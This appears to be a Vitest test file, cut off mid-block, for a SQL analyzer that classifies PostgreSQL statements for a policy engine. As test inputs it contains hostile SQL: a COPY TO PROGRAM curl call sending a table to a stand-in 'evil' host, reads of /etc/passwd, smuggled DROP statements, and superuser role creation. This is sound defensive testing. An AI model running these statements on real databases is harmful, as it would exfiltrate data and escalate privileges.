/**
 * analyzeSql: SQL text → the exact facts of each statement (accesses, functions, features, effect), for
 * every rule the decision relies on. Comparisons are order-insensitive.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeSql } from './analyze-sql.js';
import type { StatementEffect, StatementFacts } from './policy-types.js';
import { loadSqlParser } from './sql-parser.js';

beforeAll(async () => {
  await loadSqlParser();
});

/** One statement's facts as sorted strings: `op schema.name`, `schema.name`, `feature(detail)`. */
interface Expected {
  readonly kind?: string;
  readonly effect?: StatementEffect;
  readonly accesses?: readonly string[];
  readonly functions?: readonly string[];
  readonly features?: readonly string[];
}

interface Case extends Expected {
  readonly sql: string;
  readonly searchPath?: readonly string[];
}

function summarize(facts: StatementFacts): Required<Expected> {
  return {
    kind: facts.kind,
    effect: facts.effect,
    accesses: facts.accesses.map((a) => `${a.operation} ${a.relation.schema}.${a.relation.name}`).sort(),
    functions: facts.functions.map((f) => `${f.schema}.${f.name}`).sort(),
    features: facts.features
      .map((f) => (f.detail === undefined ? f.feature : `${f.feature}(${f.detail})`))
      .sort(),
  };
}

function only(sql: string, searchPath: readonly string[] = ['public']): Required<Expected> {
  const result = analyzeSql(sql, searchPath);
  if (!result.ok) throw new Error(`not analysed: ${result.reason}`);
  expect(result.statements).toHaveLength(1);
  return summarize(result.statements[0] as StatementFacts);
}

function expectFacts(cases: readonly Case[]): void {
  it.each(cases)('$sql', (c) => {
    const actual = only(c.sql, c.searchPath);
    expect(actual.accesses).toEqual([...(c.accesses ?? [])].sort());
    expect(actual.functions).toEqual([...(c.functions ?? [])].sort());
    expect(actual.features).toEqual([...(c.features ?? [])].sort());
    if (c.effect !== undefined) expect(actual.effect).toBe(c.effect);
    if (c.kind !== undefined) expect(actual.kind).toBe(c.kind);
  });
}

function expectUnclassified(
  cases: ReadonlyArray<{ sql: string; reason: RegExp; searchPath?: string[] }>,
): void {
  it.each(cases)('$sql', ({ sql, reason, searchPath }) => {
    const result = analyzeSql(sql, searchPath ?? ['public']);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.reason).toMatch(reason);
  });
}

describe('tricky inputs', () => {
  it('splits `select …; drop …` into two statements, each with its facts', () => {
    const result = analyzeSql('select 1; drop table x', ['public']);
    expect(result.ok && result.statements.map(summarize)).toEqual([
      { kind: 'SelectStmt', effect: 'read', accesses: [], functions: [], features: [] },
      {
        kind: 'DropStmt',
        effect: 'ddl',
        accesses: ['ddl public.x'],
        functions: [],
        features: ['destructive(DROP)'],
      },
    ]);
  });

  it('counts no statement in empty text, comments only or semicolons only', () => {
    for (const sql of [
      '',
      '   ',
      '-- drop table x',
      '/* drop table x; */',
      ';;',
      '/* a /* nested */ b */ ;',
    ]) {
      expect(analyzeSql(sql, ['public'])).toEqual({ ok: true, statements: [] });
    }
  });

  it('sees a statement hidden after a backslash in a standard string', () => {
    // standard_conforming_strings is on: 'a\' ends the string, so the DROP is a statement.
    const result = analyzeSql("select 'a\\'; drop table x; --'", ['public']);
    expect(result.ok && result.statements.map((s) => s.kind)).toEqual(['SelectStmt', 'DropStmt']);
  });

  expectFacts([
    { sql: '/* drop table x; */ select 1 -- ; drop table y', kind: 'SelectStmt', effect: 'read' },
    { sql: '/* outer /* nested; drop table x; */ still comment; */ select 1', kind: 'SelectStmt' },
    { sql: '--\nselect * from orders -- where 1; drop table x', accesses: ['select public.orders'] },
    { sql: 'select $$ a; drop table x; $$', kind: 'SelectStmt', effect: 'read' },
    { sql: 'select $fn$ ; delete from x; $fn$ from t', accesses: ['select public.t'] },
    { sql: "select E'\\'; drop table x; --'", kind: 'SelectStmt', effect: 'read' },
    { sql: 'select * from U&"d\\0061ta"', accesses: ['select public.data'] },
    { sql: 'select * from U&"!0073ecrets" UESCAPE \'!\'', accesses: ['select public.secrets'] },
    { sql: 'select * from "Orders"', accesses: ['select public.Orders'] },
    { sql: 'select * from ORDERS', accesses: ['select public.orders'] },
    { sql: 'select * from "Public"."Orders"', accesses: ['select Public.Orders'] },
    { sql: 'select * from public.pg_class', accesses: ['select public.pg_class'] },
    { sql: 'select * from pg_class', accesses: ['select pg_catalog.pg_class'] },
    { sql: "select * from pg_read_file('/etc/passwd')", functions: ['pg_catalog.pg_read_file'] },
    {
      sql: "select dblink_exec('dbname=shop', 'drop table orders')",
      functions: ['public.dblink_exec'],
    },
    {
      sql: "select * from dblink('dbname=shop', 'select 1') as t(a int)",
      functions: ['public.dblink'],
    },
    { sql: "select lo_export(16385, '/tmp/out')", functions: ['pg_catalog.lo_export'] },
    {
      sql: "select set_config('role', 'postgres', false)",
      functions: ['pg_catalog.set_config'],
      features: ['set(role)'],
      effect: 'session',
    },
    { sql: "select nextval('s')", functions: ['pg_catalog.nextval'] },
    { sql: 'select pg_sleep(1)', functions: ['pg_catalog.pg_sleep'] },
    {
      sql: "copy orders to program 'curl -d @- evil'",
      accesses: ['select public.orders'],
      features: ['copy-file-or-program(to program)'],
    },
    {
      sql: 'explain analyze delete from t',
      kind: 'ExplainStmt',
      accesses: ['delete public.t'],
      effect: 'write',
      features: ['destructive(DELETE without WHERE)'],
    },
    {
      sql: 'with s as (select * from secrets) insert into orders select * from s',
      accesses: ['insert public.orders', 'select public.secrets'],
      effect: 'write',
    },
    {
      sql: 'create table x as select * from secrets',
      accesses: ['ddl public.x', 'select public.secrets'],
      effect: 'ddl',
    },
    {
      sql: 'select * into x from secrets',
      accesses: ['ddl public.x', 'select public.secrets'],
      effect: 'ddl',
    },
    { sql: 'table secrets', accesses: ['select public.secrets'], effect: 'read' },
    { sql: 'select (select ssn from secrets limit 1)', accesses: ['select public.secrets'] },
    // `(expr).size` may be size(expr): field selections are recorded as calls (fail closed).
    { sql: "select (pg_stat_file('x')).size", functions: ['pg_catalog.pg_stat_file', 'public.size'] },
    {
      sql: 'select * from orders, lateral (select * from secrets) s',
      accesses: ['select public.orders', 'select public.secrets'],
    },
    {
      sql: 'insert into orders select * from secrets',
      accesses: ['insert public.orders', 'select public.secrets'],
    },
    {
      sql: 'update orders set x = (select ssn from secrets limit 1)',
      accesses: ['update public.orders', 'select public.secrets'],
      features: ['destructive(UPDATE without WHERE)'],
    },
  ]);
});

describe('name resolution', () => {
  expectFacts([
    {
      sql: 'select * from orders',
      searchPath: ['app', 'public'],
      accesses: ['select app.orders', 'select public.orders'],
    },
    { sql: 'select * from s.t', searchPath: ['app', 'public'], accesses: ['select s.t'] },
    // An unqualified catalog relation is pg_catalog's (searched first) …
    {
      sql: 'select * from pg_stat_activity',
      searchPath: ['app'],
      accesses: ['select pg_catalog.pg_stat_activity'],
    },
    // … but a pg_ name pg_catalog lacks (an extension's view, a user table) is looked up along the path too.
    { sql: 'select * from pg_secret', accesses: ['select pg_catalog.pg_secret', 'select public.pg_secret'] },
    {
      sql: 'select * from pg_stat_statements',
      accesses: ['select pg_catalog.pg_stat_statements', 'select public.pg_stat_statements'],
    },
    // A search_path naming pg_catalog later lets earlier schemas shadow it.
    {
      sql: 'select * from pg_class',
      searchPath: ['public', 'pg_catalog'],
      accesses: ['select public.pg_class', 'select pg_catalog.pg_class'],
    },
    {
      sql: "select lower('X')",
      searchPath: ['public', 'pg_catalog'],
      functions: ['public.lower', 'pg_catalog.lower'],
    },
    { sql: "select lower('X')", searchPath: ['app', 'public'], functions: ['pg_catalog.lower'] },
    {
      sql: 'select order_total(1)',
      searchPath: ['app', 'public'],
      functions: ['app.order_total', 'public.order_total'],
    },
    { sql: 'select public.order_total(1)', searchPath: ['app'], functions: ['public.order_total'] },
    { sql: 'select pg_catalog.pg_sleep(1)', functions: ['pg_catalog.pg_sleep'] },
    { sql: 'select "Lower"(\'x\')', functions: ['public.Lower'] },
    { sql: 'create temp table scratch (a int)', accesses: ['ddl pg_temp.scratch'] },
    { sql: 'create table pg_temp.scratch (a int)', accesses: ['ddl pg_temp.scratch'] },
    // A relation being created lands in a search_path schema, never pg_catalog.
    { sql: 'create table pg_class (a int)', searchPath: ['app'], accesses: ['ddl app.pg_class'] },
  ]);

  expectUnclassified([
    {
      sql: 'select * from shop.public.orders',
      reason: /statement 1 \(SelectStmt\): cross-database reference shop\.public\.orders/,
    },
    { sql: 'select shop.public.f()', reason: /cross-database function reference/ },
    { sql: 'select * from orders', searchPath: [], reason: /search_path is empty/ },
    { sql: 'select f()', searchPath: [], reason: /search_path is empty/ },
    { sql: 'drop table a.b.c', reason: /cross-database reference a\.b\.c/ },
  ]);
});

describe('CTEs', () => {
  expectFacts([
    { sql: 'with d as (select * from orders) select * from d', accesses: ['select public.orders'] },
    {
      sql: 'with recursive n(i) as (select 1 union all select i + 1 from n where i < 5) select * from n',
      accesses: [],
    },
    // Without RECURSIVE a CTE cannot see later ones: b inside a is the table b.
    { sql: 'with a as (select * from b), b as (select 1) select * from a', accesses: ['select public.b'] },
    { sql: 'with recursive a as (select * from b), b as (select 1) select * from a', accesses: [] },
    { sql: 'with a as (select 1), b as (select * from a) select * from b', accesses: [] },
    // A CTE is visible only inside its own query.
    { sql: 'select * from (with d as (select 1) select * from d) x, d', accesses: ['select public.d'] },
    {
      sql: 'select (with x as (select 1) select * from x), (select * from x)',
      accesses: ['select public.x'],
    },
    { sql: 'with orders as (select 1) select * from public.orders', accesses: ['select public.orders'] },
    {
      sql: 'with d as (select * from (with e as (select * from secrets) select * from e) i) select * from d',
      accesses: ['select public.secrets'],
    },
    {
      sql: 'with x as (delete from t returning *) select * from x',
      accesses: ['delete public.t', 'select public.t'],
      effect: 'write',
      features: ['destructive(DELETE without WHERE)'],
    },
    {
      sql: 'with x as (update t set a = 1 returning a) select 1',
      accesses: ['update public.t', 'select public.t'],
      effect: 'write',
      features: ['destructive(UPDATE without WHERE)'],
    },
    { sql: 'with x as (insert into t values (1)) select 1', accesses: ['insert public.t'], effect: 'write' },
    {
      sql: 'with x as (merge into t using s on t.id = s.id when matched then delete) select 1',
      accesses: ['delete public.t', 'select public.s'],
    },
    // The target of a data-modifying statement is always a table, never a CTE.
    { sql: 'with d as (select 1) insert into d select * from d', accesses: ['insert public.d'] },
    {
      sql: 'with ids as (select id from secrets) update orders set x = 1 from ids where ids.id = orders.id',
      accesses: ['update public.orders', 'select public.secrets'],
    },
    {
      sql: 'with ids as (select 1 as id) delete from orders using ids where ids.id = orders.id',
      accesses: ['delete public.orders'],
    },
    {
      sql: 'with r as (select * from orders) select * from r for update',
      accesses: ['select public.orders'],
    },
  ]);
});

describe('table operations', () => {
  expectFacts([
    {
      sql: 'select o.id from orders o join customers c on c.id = o.customer_id left join items i using (id)',
      accesses: ['select public.orders', 'select public.customers', 'select public.items'],
      effect: 'read',
    },
    {
      sql: 'select * from a where x in (select y from b) and exists (select 1 from c) and z = any (select z from d)',
      accesses: ['select public.a', 'select public.b', 'select public.c', 'select public.d'],
    },
    {
      sql: 'select count(*) from a group by x having count(*) > (select count(*) from b)',
      accesses: ['select public.a', 'select public.b'],
      functions: ['pg_catalog.count'],
    },
    {
      sql: 'select x from a union select x from b intersect select x from c except all select x from d',
      accesses: ['select public.a', 'select public.b', 'select public.c', 'select public.d'],
    },
    { sql: 'values (1), ((select x from secrets))', accesses: ['select public.secrets'] },
    { sql: 'select * from only orders', accesses: ['select public.orders'] },
    {
      sql: 'select * from t tablesample bernoulli (10)',
      accesses: ['select public.t'],
      functions: ['pg_catalog.bernoulli'],
    },
    { sql: 'insert into t default values', accesses: ['insert public.t'], effect: 'write' },
    { sql: 'insert into t (a) values (1) on conflict do nothing', accesses: ['insert public.t'] },
    {
      sql: 'insert into t (id, a) values (1, 2) on conflict (id) do update set a = excluded.a',
      accesses: ['insert public.t', 'update public.t'],
    },
    { sql: 'insert into t values (1) returning id', accesses: ['insert public.t', 'select public.t'] },
    {
      sql: 'update t set a = 1 from u where t.id = u.id and exists (select 1 from v)',
      accesses: ['update public.t', 'select public.u', 'select public.v'],
      effect: 'write',
    },
    {
      sql: 'update t set a = 1 returning *',
      accesses: ['update public.t', 'select public.t'],
      features: ['destructive(UPDATE without WHERE)'],
    },
    {
      sql: 'delete from t',
      accesses: ['delete public.t'],
      effect: 'write',
      features: ['destructive(DELETE without WHERE)'],
    },
    {
      sql: 'delete from t using u where t.id = u.id returning t.id',
      accesses: ['delete public.t', 'select public.t', 'select public.u'],
    },
    {
      sql: 'merge into t using s on t.id = s.id when matched and s.x > 0 then update set a = 1 when matched then delete when not matched then insert values (1) returning *',
      accesses: [
        'update public.t',
        'delete public.t',
        'insert public.t',
        'select public.t',
        'select public.s',
      ],
      effect: 'write',
    },
    {
      sql: 'merge into t using (select * from s) src on t.id = src.id when not matched by source then do nothing',
      accesses: ['select public.s'],
    },
    {
      sql: 'truncate a, s.b',
      accesses: ['truncate public.a', 'truncate s.b'],
      effect: 'write',
      features: ['destructive(TRUNCATE)'],
    },
    {
      sql: 'lock table a, b in exclusive mode',
      accesses: ['lock public.a', 'lock public.b'],
      effect: 'read',
    },
    {
      sql: 'select * from a join b on true for update',
      accesses: ['select public.a', 'select public.b', 'lock public.a', 'lock public.b'],
      effect: 'read',
    },
    {
      sql: 'select * from a o join b on true for no key update of o',
      accesses: ['select public.a', 'select public.b', 'lock public.a'],
    },
    {
      sql: 'select * from (select * from a) s, b for share of s',
      accesses: ['select public.a', 'select public.b', 'lock public.a'],
    },
    {
      sql: 'select * from a, b for key share of b nowait',
      accesses: ['select public.a', 'select public.b', 'lock public.b'],
    },
    // A sublink in WHERE is read, not locked.
    {
      sql: 'select * from a where x in (select y from b) for update',
      accesses: ['select public.a', 'select public.b', 'lock public.a'],
    },
    {
      sql: 'select * from (select * from a for update) s',
      accesses: ['select public.a', 'lock public.a'],
    },
    { sql: 'select * into temp x from secrets', accesses: ['ddl pg_temp.x', 'select public.secrets'] },
    {
      sql: 'create materialized view m as select * from orders',
      accesses: ['ddl public.m', 'select public.orders'],
      effect: 'ddl',
    },
    { sql: 'create view v as select * from secrets', accesses: ['ddl public.v', 'select public.secrets'] },
    { sql: 'create temp view v as select 1', accesses: ['ddl pg_temp.v'] },
    {
      sql: "create table t (a int default nextval('s') check (a > f()), b int references s.p (id), like q) inherits (par)",
      // A foreign key adds RI triggers to the referenced table: ddl on it, not only a read.
      accesses: ['ddl public.t', 'ddl public.par', 'ddl s.p', 'select s.p', 'select public.q'],
      functions: ['pg_catalog.nextval', 'public.f'],
      effect: 'ddl',
    },
    {
      sql: 'create table c partition of p for values from (1) to (10)',
      accesses: ['ddl public.c', 'ddl public.p'],
    },
    { sql: 'create unlogged table u (a int)', accesses: ['ddl public.u'] },
    {
      sql: 'create table t (a int generated always as identity (sequence name other.s))',
      accesses: ['ddl public.t', 'ddl other.s'],
    },
    {
      sql: 'alter table t alter column a add generated always as identity (sequence name s2)',
      accesses: ['ddl public.t', 'ddl public.s2'],
      features: ['destructive(ALTER)'],
    },
    {
      sql: 'alter table t add constraint fk foreign key (a) references secrets (id)',
      accesses: ['ddl public.t', 'ddl public.secrets', 'select public.secrets'],
      features: ['destructive(ALTER)'],
    },
    {
      sql: 'create table x (like secrets including all)',
      accesses: ['ddl public.x', 'select public.secrets'],
    },
    {
      sql: 'create foreign table f (a int) server remote',
      accesses: ['ddl public.f'],
      effect: 'ddl',
    },
    {
      sql: 'create index on t using gin (lower(a)) where b > g()',
      accesses: ['ddl public.t'],
      functions: ['pg_catalog.lower', 'public.g'],
    },
    { sql: 'create sequence s', accesses: ['ddl public.s'] },
    { sql: 'alter sequence s restart', accesses: ['ddl public.s'] },
    {
      sql: 'alter table t add column c int default f(), alter column d type int using g(d)',
      accesses: ['ddl public.t'],
      functions: ['public.f', 'public.g'],
      effect: 'ddl',
      features: ['destructive(ALTER)'],
    },
    {
      sql: 'alter table p attach partition c for values in (1)',
      accesses: ['ddl public.p', 'ddl public.c'],
      features: ['destructive(ALTER)'],
    },
    {
      sql: 'alter table t inherit p',
      accesses: ['ddl public.t', 'ddl public.p'],
      features: ['destructive(ALTER)'],
    },
    {
      sql: 'alter table t rename to u',
      accesses: ['ddl public.t', 'ddl public.u'],
      features: ['destructive(ALTER)'],
    },
    { sql: 'alter table t rename column a to b', accesses: ['ddl public.t'] },
    {
      sql: 'alter index i rename to j',
      accesses: ['ddl public.i', 'ddl public.j'],
      features: ['destructive(ALTER)'],
    },
    { sql: 'alter table t set schema s', accesses: ['ddl public.t', 'ddl s.t'] },
    {
      sql: 'alter table t disable row level security',
      accesses: ['ddl public.t'],
      features: ['destructive(ALTER)'],
    },
    {
      sql: 'drop table a, s.b',
      accesses: ['ddl public.a', 'ddl s.b'],
      effect: 'ddl',
      features: ['destructive(DROP)'],
    },
    { sql: 'drop index i', accesses: ['ddl public.i'], features: ['destructive(DROP)'] },
    { sql: 'drop view if exists v cascade', accesses: ['ddl public.v'], features: ['destructive(DROP)'] },
    { sql: 'drop materialized view m', accesses: ['ddl public.m'], features: ['destructive(DROP)'] },
    { sql: "comment on table t is 'x'", accesses: ['ddl public.t'], effect: 'ddl' },
    { sql: "comment on column s.t.c is 'x'", accesses: ['ddl s.t'] },
    { sql: 'vacuum t', accesses: ['maintenance public.t'], effect: 'utility' },
    { sql: 'vacuum (analyze) a, b (c)', accesses: ['maintenance public.a', 'maintenance public.b'] },
    { sql: 'analyze t', accesses: ['maintenance public.t'] },
    { sql: 'vacuum', features: ['server-admin(vacuum of every table)'], effect: 'utility' },
    { sql: 'analyze', features: ['server-admin(analyze of every table)'] },
    { sql: 'cluster t using t_pkey', accesses: ['maintenance public.t'] },
    { sql: 'cluster', features: ['server-admin(cluster of every table)'] },
    { sql: 'reindex table t', accesses: ['maintenance public.t'] },
    { sql: 'reindex index i', accesses: ['maintenance public.i'] },
    { sql: 'reindex database', features: ['server-admin(reindex database)'] },
    {
      sql: 'refresh materialized view concurrently m',
      accesses: ['maintenance public.m'],
      effect: 'utility',
    },
  ]);
});

describe('COPY', () => {
  expectFacts([
    { sql: 'copy t to stdout', accesses: ['select public.t'], effect: 'read' },
    { sql: 'copy t (a, b) from stdin', accesses: ['insert public.t'], effect: 'write' },
    { sql: 'copy (select * from secrets) to stdout', accesses: ['select public.secrets'], effect: 'read' },
    {
      sql: 'copy (delete from t returning *) to stdout',
      accesses: ['delete public.t', 'select public.t'],
      effect: 'write',
      features: ['destructive(DELETE without WHERE)'],
    },
    { sql: 'copy t from stdin where a > f()', accesses: ['insert public.t'], functions: ['public.f'] },
    {
      sql: "copy t from '/etc/passwd'",
      accesses: ['insert public.t'],
      features: ['copy-file-or-program(from file)'],
      effect: 'write',
    },
    {
      sql: "copy t to '/tmp/out.csv' with (format csv)",
      accesses: ['select public.t'],
      features: ['copy-file-or-program(to file)'],
      effect: 'utility',
    },
    {
      sql: "copy t from program 'cat /etc/passwd'",
      accesses: ['insert public.t'],
      features: ['copy-file-or-program(from program)'],
    },
  ]);
});

describe('functions everywhere', () => {
  expectFacts([
    { sql: 'select f(1)', functions: ['public.f'] },
    { sql: 'select * from f()', functions: ['public.f'] },
    { sql: 'select * from rows from (f(1), g(2) as (a int)) as x', functions: ['public.f', 'public.g'] },
    { sql: 'select * from t, lateral f(t.a)', accesses: ['select public.t'], functions: ['public.f'] },
    { sql: 'select * from t where a = f()', accesses: ['select public.t'], functions: ['public.f'] },
    { sql: 'select 1 from t group by f(a)', accesses: ['select public.t'], functions: ['public.f'] },
    {
      sql: 'select 1 from t group by a having g(a) > 0',
      accesses: ['select public.t'],
      functions: ['public.g'],
    },
    { sql: 'select a from t order by f(a)', accesses: ['select public.t'], functions: ['public.f'] },
    {
      sql: 'select sum(a) over w from t window w as (partition by f(a) order by g(a))',
      accesses: ['select public.t'],
      functions: ['pg_catalog.sum', 'public.f', 'public.g'],
    },
    {
      sql: 'select count(*) filter (where f(a)) over (partition by g(a) order by h(a)) from t',
      accesses: ['select public.t'],
      functions: ['pg_catalog.count', 'public.f', 'public.g', 'public.h'],
    },
    {
      sql: "select percentile_cont(0.5) within group (order by k(a)), string_agg(a, ',' order by m(a)) from t",
      accesses: ['select public.t'],
      functions: ['pg_catalog.percentile_cont', 'pg_catalog.string_agg', 'public.k', 'public.m'],
    },
    { sql: 'values (f())', functions: ['public.f'] },
    { sql: 'insert into t values (f(), default)', accesses: ['insert public.t'], functions: ['public.f'] },
    {
      sql: 'update t set a = f()',
      accesses: ['update public.t'],
      functions: ['public.f'],
      features: ['destructive(UPDATE without WHERE)'],
    },
    {
      sql: 'delete from t returning f(a)',
      accesses: ['delete public.t', 'select public.t'],
      functions: ['public.f'],
      features: ['destructive(DELETE without WHERE)'],
    },
    { sql: 'select case when f() then g() else h() end', functions: ['public.f', 'public.g', 'public.h'] },
    {
      sql: 'select coalesce(a, f()), greatest(g(), 1), nullif(h(), 1) from t',
      accesses: ['select public.t'],
      functions: ['public.f', 'public.g', 'public.h'],
    },
    {
      sql: 'select cast(f() as text), g()::int, h(\'x\' collate "C")',
      functions: ['public.f', 'public.g', 'public.h'],
    },
    {
      sql: 'select array[f()], row(g()), (h()).x[1]',
      functions: ['public.f', 'public.g', 'public.h', 'public.x'],
    },
    {
      sql: "select substring('abc' from 1 for 2), extract(year from now()), trim(both 'x' from 'xax'), position('a' in 'b'), overlay('abc' placing 'x' from 2)",
      functions: [
        'pg_catalog.substring',
        'pg_catalog.extract',
        'pg_catalog.now',
        'pg_catalog.btrim',
        'pg_catalog.position',
        'pg_catalog.overlay',
      ],
    },
    { sql: "select now() at time zone 'utc'", functions: ['pg_catalog.now', 'pg_catalog.timezone'] },
    { sql: 'select current_user, current_date, session_user', functions: [] },
    {
      sql: "select * from json_table('[]', '$[*]' columns (a int path '$.a' default f() on empty)) j",
      functions: ['public.f'],
    },
    {
      sql: "select json_object('a': f()), json_arrayagg(g() order by 1)",
      functions: ['public.f', 'public.g'],
    },
    {
      sql: "select json_value(j, '$.a' returning int default f() on error) from t",
      accesses: ['select public.t'],
      functions: ['public.f'],
    },
    { sql: "select * from xmltable('/a' passing f() columns c int path 'c')", functions: ['public.f'] },
    { sql: 'select xmlelement(name a, xmlattributes(f() as b))', functions: ['public.f'] },
    {
      sql: 'select 1 where exists (select f() from t)',
      accesses: ['select public.t'],
      functions: ['public.f'],
    },
    // Attribute notation calls the function: x.f is f(x) when f is not a column.
    { sql: "select ('/etc/passwd'::text).pg_read_file", functions: ['pg_catalog.pg_read_file'] },
    { sql: "select ('s'::regclass).nextval", functions: ['pg_catalog.nextval'] },
    {
      sql: "select p.pg_read_file from (select '/etc/passwd'::text as p) s",
      functions: ['pg_catalog.pg_read_file'],
    },
    { sql: 'select o.id, o.note from orders o', accesses: ['select public.orders'] },
  ]);
});

describe('settings and transactions', () => {
  expectFacts([
    { sql: 'set role postgres', features: ['set(role)'], effect: 'session', kind: 'VariableSetStmt' },
    { sql: 'set session authorization postgres', features: ['set(session_authorization)'] },
    { sql: "set time zone 'UTC'", features: ['set(timezone)'] },
    { sql: "set names 'LATIN1'", features: ['set(client_encoding)'] },
    { sql: 'set search_path = evil, public', features: ['set(search_path)'] },
    { sql: "set schema 'evil'", features: ['set(search_path)'] },
    { sql: 'set local statement_timeout = 5', features: ['set(statement_timeout)'] },
    { sql: 'set "Work_Mem" to default', features: ['set(work_mem)'] },
    { sql: 'set transaction_read_only = off', features: ['set(transaction_read_only)'] },
    { sql: 'set default_transaction_read_only = off', features: ['set(default_transaction_read_only)'] },
    { sql: 'set standard_conforming_strings = off', features: ['set(standard_conforming_strings)'] },
    { sql: 'set myapp.tenant = 3', features: ['set(myapp.tenant)'] },
    { sql: 'reset role', features: ['reset(role)'], effect: 'session' },
    { sql: 'reset all', features: ['reset(all)'] },
    { sql: 'reset session authorization', features: ['reset(session_authorization)'] },
    { sql: 'show search_path', effect: 'session', kind: 'VariableShowStmt' },
    { sql: 'show all', effect: 'session' },
    {
      sql: 'set transaction read write',
      features: ['read-write-transaction(set transaction read write)'],
      effect: 'transaction',
    },
    { sql: 'set transaction isolation level serializable, read only', effect: 'transaction' },
    { sql: 'set transaction read only', effect: 'transaction' },
    {
      sql: 'set session characteristics as transaction read write',
      features: ['read-write-transaction(set session characteristics as transaction read write)'],
      effect: 'session',
    },
    { sql: 'set session characteristics as transaction read only', effect: 'session' },
    {
      sql: 'set session characteristics as transaction isolation level serializable',
      features: ['set(default_transaction_isolation)'],
    },
    { sql: "set transaction snapshot '00000003-0000001B-1'", effect: 'transaction' },
    { sql: 'begin', effect: 'transaction', kind: 'TransactionStmt' },
    {
      sql: 'begin read write',
      features: ['read-write-transaction(begin read write)'],
      effect: 'transaction',
    },
    {
      sql: 'start transaction isolation level repeatable read, read write',
      features: ['read-write-transaction(begin read write)'],
    },
    { sql: 'begin read only', effect: 'transaction' },
    { sql: 'start transaction read only', effect: 'transaction' },
    { sql: 'commit', effect: 'transaction' },
    { sql: 'end', effect: 'transaction' },
    { sql: 'rollback', effect: 'transaction' },
    { sql: 'abort', effect: 'transaction' },
    { sql: 'savepoint s1', effect: 'transaction' },
    { sql: 'release savepoint s1', effect: 'transaction' },
    { sql: 'rollback to savepoint s1', effect: 'transaction' },
    { sql: 'commit and chain', effect: 'transaction' },
    { sql: 'set constraints all deferred', effect: 'transaction' },
    {
      sql: "prepare transaction 'tx1'",
      features: ['two-phase-commit(prepare transaction)'],
      effect: 'transaction',
    },
    { sql: "commit prepared 'tx1'", features: ['two-phase-commit(commit prepared)'] },
    { sql: "rollback prepared 'tx1'", features: ['two-phase-commit(rollback prepared)'] },
  ]);
});

describe('session, routine and cursor statements', () => {
  expectFacts([
    { sql: 'do $$ begin perform 1; end $$', features: ['do-block'], effect: 'utility' },
    { sql: "do language plpgsql 'begin null; end'", features: ['do-block'] },
    {
      sql: 'call refresh_totals(1)',
      features: ['call(refresh_totals)'],
      functions: ['public.refresh_totals'],
      effect: 'utility',
    },
    { sql: 'call app.p(f())', features: ['call(app.p)'], functions: ['app.p', 'public.f'] },
    {
      sql: 'prepare p (int) as select * from orders where id = $1',
      features: ['prepare(p)'],
      accesses: ['select public.orders'],
      effect: 'session',
    },
    {
      sql: 'prepare q as delete from t',
      features: ['prepare(q)', 'destructive(DELETE without WHERE)'],
      accesses: ['delete public.t'],
      effect: 'write',
    },
    { sql: 'execute p(1)', features: ['execute(p)'], effect: 'utility' },
    { sql: 'execute p(pg_sleep(10))', features: ['execute(p)'], functions: ['pg_catalog.pg_sleep'] },
    { sql: 'deallocate p', features: ['deallocate(p)'], effect: 'session' },
    { sql: 'deallocate prepare all', features: ['deallocate(all)'] },
    {
      sql: 'declare c cursor with hold for select * from secrets',
      features: ['declare-cursor(c)'],
      accesses: ['select public.secrets'],
      effect: 'session',
    },
    {
      sql: 'declare c cursor for select * from orders for update',
      features: ['declare-cursor(c)'],
      accesses: ['select public.orders', 'lock public.orders'],
    },
    { sql: 'fetch 10 from c', features: ['cursor-use(c)'], effect: 'session' },
    { sql: 'move forward all in c', features: ['cursor-use(c)'] },
    { sql: 'close c', features: ['cursor-use(c)'] },
    { sql: 'close all', features: ['cursor-use(all)'] },
    { sql: 'listen jobs', features: ['listen(jobs)'], effect: 'session' },
    { sql: "notify jobs, 'payload'", features: ['notify(jobs)'] },
    { sql: 'unlisten jobs', features: ['unlisten(jobs)'] },
    { sql: 'unlisten *', features: ['unlisten(*)'] },
    { sql: "load 'auto_explain'", features: ['load(auto_explain)'], effect: 'utility' },
    { sql: 'discard all', features: ['discard(all)'], effect: 'session' },
    { sql: 'discard plans', features: ['discard(plans)'] },
    { sql: 'discard sequences', features: ['discard(sequences)'] },
    { sql: 'discard temp', features: ['discard(temp)'] },
    {
      sql: 'explain select * from secrets',
      accesses: ['select public.secrets'],
      effect: 'read',
      kind: 'ExplainStmt',
    },
    {
      sql: 'explain (analyze, buffers, format json) update t set a = 1',
      accesses: ['update public.t'],
      effect: 'write',
      features: ['destructive(UPDATE without WHERE)'],
    },
    { sql: 'explain execute p(1)', features: ['execute(p)'] },
    {
      sql: 'explain analyze create table x as select * from secrets',
      accesses: ['ddl public.x', 'select public.secrets'],
      effect: 'ddl',
    },
    {
      sql: 'create table x as execute p',
      accesses: ['ddl public.x'],
      features: ['execute(p)'],
      effect: 'ddl',
    },
  ]);
});

describe('privilege, server administration and other DDL', () => {
  expectFacts([
    { sql: 'grant select on orders to public', features: ['privilege(grant)'], effect: 'privilege' },
    { sql: 'revoke all on secrets from analyst', features: ['privilege(revoke)'], effect: 'privilege' },
    { sql: 'grant admin to agent', features: ['privilege(grant role)'] },
    { sql: "create role hacker login password 'x' superuser", features: ['privilege(create role)'] },
    { sql: 'create user hacker', features: ['privilege(create user)'] },
    { sql: 'alter role agent superuser', features: ['privilege(alter role)'] },
    { sql: 'alter role agent set search_path = evil', features: ['privilege(alter role set)'] },
    { sql: 'drop role if exists agent', features: ['privilege(drop role)'] },
    {
      sql: 'alter default privileges grant select on tables to public',
      features: ['privilege(alter default privileges)'],
    },
    { sql: 'reassign owned by a to b', features: ['privilege(reassign owned)'] },
    { sql: 'drop owned by a', features: ['privilege(drop owned)'] },
    { sql: "security label on table t is 'secret'", features: ['privilege(security label)'] },
    {
      sql: 'alter table t owner to agent',
      accesses: ['ddl public.t'],
      features: ['privilege(owner to)', 'destructive(ALTER)'],
      effect: 'privilege',
    },
    { sql: 'alter function f() owner to agent', features: ['privilege(owner to)'] },
    { sql: 'alter role agent rename to boss', features: ['privilege(rename role)'] },
    {
      sql: "alter system set archive_command = 'x'",
      features: ['server-admin(alter system)'],
      effect: 'utility',
    },
    { sql: 'checkpoint', features: ['server-admin(checkpoint)'], effect: 'utility' },
    { sql: 'create database evil', features: ['server-admin(create database)'], effect: 'ddl' },
    { sql: 'drop database shop', features: ['server-admin(drop database)'] },
    { sql: 'alter database shop set search_path = evil', features: ['server-admin(alter database set)'] },
    { sql: "create tablespace t location '/tmp'", features: ['server-admin(create tablespace)'] },
